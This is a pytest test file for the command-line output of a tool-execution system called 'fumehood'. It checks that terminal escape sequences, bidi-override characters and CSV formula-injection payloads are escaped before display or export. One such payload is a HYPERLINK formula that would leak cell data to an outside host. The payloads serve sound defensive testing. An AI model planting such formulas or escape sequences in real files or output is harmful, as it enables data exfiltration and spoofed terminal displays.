"""Terminal output: envelopes, tables, usage and escaped text."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from fumehood.approvals.refusals import denial, no_approvers, too_few_approvers, waits
from fumehood.cli import show
from fumehood.cli.calls import show_usage, write_csv
from fumehood.cli.exits import ExitCode, fail
from fumehood.cli.options import age
from fumehood.cli.show import (
    Column,
    circuit_words,
    fitting,
    show_call_line,
    show_envelope,
    show_json,
    show_table,
    show_tools,
)
from fumehood.core.call_log import CallRecord
from fumehood.core.envelope import Envelope, ErrorInfo, FallbackReport, Performance, UsageReport
from fumehood.core.errors import EngineError, PermissionDenied
from fumehood.core.escaping import (
    json_document,
    json_line,
    json_lines,
    visible,
)
from fumehood.core.status import CircuitStatus
from fumehood.core.tool import ToolDefinition
from fumehood.core.usage_table import BudgetStanding, Period, Unit, UsageRow, UsageTable
from support.answers import envelope_bytes
from support.approvals import approval

NASTY = "a\x1b[31mred\u202eX\x9b2J\x07\u200b"
SHOWN = "a\\u{001b}[31mred\\u{202e}X\\u{009b}2J\\u{0007}\\u{200b}"


def envelope(error: ErrorInfo | None = None, data: Any = None, **metadata: Any) -> Envelope:
    made = Envelope.model_validate_json(envelope_bytes(data or {}))
    given = {"tool_name": "delete_files", "tool_version": "1.0.0", **metadata}
    return made.model_copy(
        update={
            "success": error is None,
            "status": "success" if error is None else "error",
            "error": error,
            "metadata": made.metadata.model_copy(update=given),
        }
    )


def error(code: str, message: str = "No.", **more: Any) -> ErrorInfo:
    return ErrorInfo(code=code, message=message, retryable=False, human_review=False, **more)


@pytest.fixture
def shown(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("COLUMNS", "1000")

    def show(one: Envelope) -> str:
        show_envelope(one, as_json=False)
        return capsys.readouterr().out

    return show


TEXTS = {
    "message": envelope(error("INVALID_PARAMS", NASTY)),
    "code": envelope(error(NASTY)),
    "details": envelope(error("INVALID_PARAMS", details={"k" + NASTY: {"deep": [NASTY]}})),
    "data": envelope(data={NASTY: NASTY, "deep": {"x": NASTY}}),
    "warning": envelope(warnings=(NASTY,)),
    "tool": envelope(tool_name=NASTY),
    "first call": envelope(idempotent_replay=True, call_id=NASTY),
    "trace": envelope(trace_id=NASTY),
    "debug_info": envelope().model_copy(update={"debug_info": {"x": NASTY}}),
}


@pytest.mark.parametrize("where", TEXTS)
def test_text_of_an_envelope_cannot_control_the_terminal(where: str, shown: Any) -> None:
    text = shown(TEXTS[where])
    assert SHOWN in text
    assert all(line.isprintable() for line in text.split("\n"))


def test_harmless_text_is_shown_unchanged(shown: Any) -> None:
    text = shown(envelope(error("INVALID_PARAMS", "[red]Grüße[/red] a\\u{202e}b")))
    assert "INVALID_PARAMS [red]Grüße[/red] a\\u{202e}b" in text


def test_error_message_cannot_imitate_the_summary_line(shown: Any) -> None:
    lines = shown(envelope(error("EXECUTION_ERROR", "bad\ndelete_files · nothing ran"))).split("\n")
    assert [line for line in lines if line.startswith("delete_files")] == [lines[-2]]


@pytest.mark.parametrize("is_terminal", [True, False])
def test_json_with_control_characters_is_valid_and_escaped(
    is_terminal: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: is_terminal)
    show_json({"text": NASTY})
    out = capsys.readouterr().out
    assert json.loads(out) == {"text": NASTY}
    assert ("\u202e" in out) is not is_terminal


RESOLVED = {"resolution": {"outcome": "done", "note": None, "by": "approver:owner"}}


@pytest.mark.parametrize(
    ("one", "says"),
    [
        (envelope(error("APPROVAL_DENIED")), "nothing ran"),
        (envelope(error("INVALID_PARAMS")), "nothing ran"),
        (envelope(error("SANDBOX_UNAVAILABLE")), "nothing ran"),
        (envelope(data={"would": "run"}), "nothing ran"),
        (envelope(error("OUTCOME_UNKNOWN")), "unknown whether it took effect"),
        (envelope(error("INTERNAL_ERROR")), "unknown whether it took effect"),
        (envelope(error("A_CODE_OF_LATER")), "unknown whether it took effect"),
        (envelope(error("CALL_IN_PROGRESS")), "still running"),
        (envelope(data=RESOLVED), "interrupted; an approver recorded that it took effect"),
        (
            envelope(error("EXECUTION_ERROR", approval_id="apr_1")),
            "interrupted; an approver recorded that it had no effect",
        ),
    ],
)
def test_summary_line_says_what_is_known_without_a_sandbox_report(
    one: Envelope, says: str, shown: Any
) -> None:
    assert f" · {says} · " in shown(one)
    assert says == "nothing ran" or "nothing ran" not in shown(one)


@pytest.mark.parametrize(
    ("waited_ms", "says"),
    [
        (15309.0, " · 15381.6 ms, of which 15309.0 ms waiting for approval · "),
        (0.008, " · 15381.6 ms · "),
        (None, " · 15381.6 ms · "),
    ],
)
def test_summary_line_says_how_long_a_human_was_waited_for(
    waited_ms: float | None, says: str, shown: Any
) -> None:
    took = Performance(total_ms=15381.6, approval_ms=waited_ms)
    assert says in shown(envelope(execution_time_ms=15381.6, performance=took))


@pytest.mark.parametrize(
    ("at", "moment"),
    [("2020-01-01T22:30:05.360Z", "2020-01-02 01:30:05"), (None, r"\d\d:\d\d:\d\d")],
)
def test_calls_tail_shows_local_time_duration_and_agent(
    at: str | None, moment: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    record = CallRecord.model_construct(
        call_id="call_0", timestamp=at or datetime.now(UTC).isoformat(), agent_id="clerk",
        tool_name="run_python", tool_version="1.0.0", code="OK", execution_time_ms=7.1,
    )  # fmt: skip
    monkeypatch.setenv("TZ", "Etc/GMT-3")
    time.tzset()
    try:
        show_call_line(record, as_json=False)
    finally:
        monkeypatch.undo()
        time.tzset()
    form = rf"{moment}  run_python@1\.0\.0  OK  7\.1 ms  clerk  call_0\n"
    assert re.fullmatch(form, capsys.readouterr().out)


@pytest.mark.parametrize(
    ("seconds", "says"), [(-5, "0s"), (59, "59s"), (60, "1m"), (7200, "2h"), (86_400 * 9, "9d")]
)
def test_age_is_formatted_in_its_largest_unit(seconds: int, says: str) -> None:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    assert age(now - timedelta(seconds=seconds), now) == says


def test_fields_without_content_are_left_out_and_bytes_are_described(shown: Any) -> None:
    figure = {"filename": "f.png", "content_type": "image/png", "size": 12_000}
    figure["content_base64"] = base64.b64encode(bytes(12_000)).decode()
    large = {"filename": "l.bin", "content_type": "application/octet-stream", "url": "/v1/x"}
    text = shown(
        envelope(data={
            "stdout": "", "stderr": "", "exit_code": 0, "value": False, "files": [figure, large],
            "images": [figure | {"filename": NASTY}], "content_base64": "AAE=", "exception": None,
        })
    )  # fmt: skip
    assert text.split("\n")[:-2] == [
        "exit_code: 0",
        "value: false",
        "files:",
        "    f.png: image/png, 12 kB (--json shows it)",
        '    {"filename": "l.bin", "content_type": "application/octet-stream", "url": "/v1/x"}',
        f"images: {SHOWN}: image/png, 12 kB (--json shows it)",
        "content_base64: 2 bytes (--json shows it)",
    ]


@pytest.mark.row("P7")
def test_circuit_is_shown_with_recent_requests_and_next_trial() -> None:
    circuit = CircuitStatus(
        upstream="bank.example:443", state="half_open", requests=7, failures=6, retry_after_ms=1001
    )  # fmt: skip
    words = "half-open, 6 of the last 7 requests failed"
    assert circuit_words(circuit) == f"{words}; next trial in 2 s"
    assert circuit_words(circuit.model_copy(update={"retry_after_ms": None})) == words


@pytest.mark.row("P7")
def test_answer_of_a_fallback_tool_is_marked(shown: Any) -> None:
    envelope = Envelope.model_validate_json(envelope_bytes({"rate": 1}))
    busy = ErrorInfo(code="CIRCUIT_OPEN", message="No.", retryable=True, human_review=False)
    report = FallbackReport(
        tool="archive", tool_version="1.0.0", call_id="call_1_fallback", answered=True, error=busy,
        usage=UsageReport(),
    )  # fmt: skip
    metadata = envelope.metadata.model_copy(update={"tool_name": "rates", "fallback": report})
    *_, answered, last = shown(envelope.model_copy(update={"metadata": metadata})).splitlines()
    assert answered == "answered by the fallback archive: CIRCUIT_OPEN"
    assert "its own service was not asked" in last


def test_result_with_only_empty_fields_is_shown_unchanged(shown: Any) -> None:
    assert shown(envelope(data={"items": [], "next": None})).startswith("items: []\nnext: null\n")


# -- What is shown where there is little room ----------------------------------------------

FIELDS = [
    Column("id", whole=True),
    Column("scopes", drop=1),
    Column("agents", drop=2),
    Column("valid"),
]
ROW = ["0123456789abcdef", "call, approve", "clerk", "True"]


@pytest.mark.parametrize(
    ("fields", "rows", "width", "kept"),
    [
        (FIELDS, [ROW], 80, [0, 1, 2, 3]),
        (FIELDS, [ROW], 51, [0, 1, 2, 3]),
        (FIELDS, [ROW], 50, [0, 1, 3]),
        (FIELDS, [ROW], 30, [0, 3]),
        (FIELDS, [ROW], 5, [0, 3]),
        (FIELDS, [], 80, [0, 1, 2, 3]),
        ([Column("name"), Column("description", drop=1)], [["clerk", "word " * 100]], 80, [0, 1]),
    ],
)
def test_table_drops_the_least_important_columns_first(
    fields: list[Column], rows: list[list[str]], width: int, kept: list[int]
) -> None:
    assert fitting(fields, rows, width) == kept


def test_table_cuts_no_cell_and_names_hidden_columns(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "36")
    fields = [Column("name"), *FIELDS[1:]]
    show_table(fields, [["x" * 40, "call", "clerk", "True"]])
    shown = capsys.readouterr()
    assert shown.out.count("x") == 40
    assert max(map(len, shown.out.splitlines())) <= 36
    assert shown.err == "Hidden columns: scopes, agents. See --json.\n"


def test_table_cell_cannot_control_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    show_table([Column("what")], [["\x1b[2J[red]word[/red]"]])
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "[red]word[/red]" in shown


# -- Usage for people and for spreadsheets -------------------------------------------------


def row(tool: str | None = "calculator", **fields: Any) -> UsageRow:
    return UsageRow(**{
        "group": {"tool": tool}, "calls": 2, "errors": 1, "failed": 1, "input_tokens": 3, "output_tokens": 4,
        "tokens_used": 5, "cost": {"USD": "0.250000"}, **fields,
    })  # fmt: skip


def table(*rows: UsageRow, **fields: Any) -> UsageTable:
    total = row(group={}, calls=99)
    return UsageTable(
        **{"by": ("tool",), "items": rows, "total": total, "has_more": False, **fields}
    )


def lines(*rows: UsageRow) -> list[list[str]]:
    file = io.StringIO(newline="")
    write_csv(table(*rows), file)
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))


NAMES = ["calculator", "run_python", "a-b", "x=1", "1", "a@1.0.0", "a+b"]


@pytest.mark.parametrize(
    ("given", "written"),
    [
        (row(), [["calculator", "2", "1", "3", "4", "5", "0.250000", "USD"]]),
        (row(None), [["", "2", "1", "3", "4", "5", "0.250000", "USD"]]),
        (
            row(cost={"EUR": "1.000000", "USD": "2.000000"}),
            [
                ["calculator", "2", "1", "3", "4", "5", "1.000000", "EUR"],
                ["calculator", "0", "0", "0", "0", "0", "2.000000", "USD"],  # calls count once
            ],
        ),
        (
            row('a","b\nc;d'),
            [['a","b\\u{000a}c;d', "2", "1", "3", "4", "5", "0.250000", "USD"]],
        ),
        *((row(name), [[name, "2", "1", "3", "4", "5", "0.250000", "USD"]]) for name in NAMES),
    ],
)
def test_usage_csv_has_one_line_per_group_and_currency(
    given: UsageRow, written: list[list[str]]
) -> None:
    head, *rest = lines(given)
    assert head == [
        "tool", "calls", "errors", "input_tokens", "output_tokens", "tokens_used", "cost", "currency",
    ]  # fmt: skip
    assert rest == written


FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "=1+1\";=1+1", "＝1+1", "|calc", "%0A=1", "\u00a0=1", "\x00=1",
]  # fmt: skip


@pytest.mark.row("E4")
@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_is_never_a_formula(text: str) -> None:
    """Any caller can ask for a tool of this name; whoever is refused is in the log, too."""
    cell = lines(row(text))[1][0]
    first = cell.strip()[0]
    assert first in ("'", "\\")
    assert not any(ord(character) < 32 for character in cell)


@pytest.mark.row("E4")
def test_table_shows_total_budgets_and_nothing_that_moves_the_cursor(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(show, "wants_json", lambda asked: asked)
    budget = BudgetStanding(
        budget="daily", subject={"agent": "a"}, period=Period.TOTAL, unit=Unit.MONEY,
        limit="5.000000", spent="1.000000", held="0.000000", left="4.000000", resets_at=None,
    )  # fmt: skip
    given = table(row("a\x1b[2J\nb\u202e[red]"), budgets=(budget,))
    show_usage(given.model_copy(update={"currency": "CHF"}), False)
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "[red]" in shown.replace("\n", "").replace(" ", "")
    assert "99" in shown
    assert "4.000000" in shown
    assert "CHF" in shown
    assert "never" in shown


# -- One way to show what a terminal would obey, whoever wrote it --------------------------

NASTY_ESCAPING = "a\x1b[2J\u202e\x9b1m\r\u200b"


def test_backslashes_in_text_differ_from_escapes() -> None:
    assert json_line("\\u001b \\b") == '"\\\\u001b \\\\b"'
    assert json_line("\\\x1b") == '"\\\\\\u{001b}"'


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


@given(st.text() | st.just(NASTY_ESCAPING), JSON)
def test_any_text_and_value_are_escaped_for_the_terminal(text: str, value: Any) -> None:
    assert visible(text).isprintable()
    assert json_line(text).isprintable()
    assert all(line.isprintable() for line in json_lines([text]).split("\n"))
    document = json_document(value)
    assert json.loads(document) == value
    assert all(line.isprintable() for line in document.split("\n"))


# -- How a command ends with a message -----------------------------------------------------


def test_untrusted_text_in_a_message_cannot_control_the_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(typer.Exit):
        fail("The index said: \x1b]0;title\x07\x1b[2J\r\u202ebad\nMend that.", ExitCode.UNAVAILABLE)
    assert capsys.readouterr().err == (
        "The index said: \\u{001b}]0;title\\u{0007}\\u{001b}[2J\\u{000d}\\u{202e}bad\nMend that.\n"
    )


@pytest.mark.parametrize(
    "refused",
    [
        no_approvers("delete_files", "fumehood approvers init"),
        too_few_approvers("delete_files", "2 approvers are needed"),
        denial(approval()),
        waits(approval(), None),
        PermissionDenied("A policy rule forbids this call of delete_files. Do not retry."),
    ],
    ids=lambda refused: type(refused).__name__,
)
def test_refusal_on_a_terminal_omits_advice_for_models(refused: EngineError, shown: Any) -> None:
    text = shown(envelope(error(refused.code, refused.message)))
    assert "delete_files" in text
    assert not re.search("the user|retry|call id|another way", text)


def test_tools_that_cannot_run_now_are_marked(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    tools = [
        ToolDefinition.model_construct(
            name=name, version="1.0.0", executor="code:python", dangerous=False, sandboxed=True,
            is_active=True, description="Run.",
        )
        for name in ("run_a", "run_b")
    ]  # fmt: skip
    show_tools([(tool, "builtin") for tool in tools], {"run_b"}, as_json=False)
    said = capsys.readouterr()
    marked = [line.split()[0] for line in said.out.splitlines() if "cannot run now" in line]
    assert marked == ["run_b@1.0.0"]
    assert "fumehood doctor" in said.err


# -- The changes of a project --------------------------------------------------------
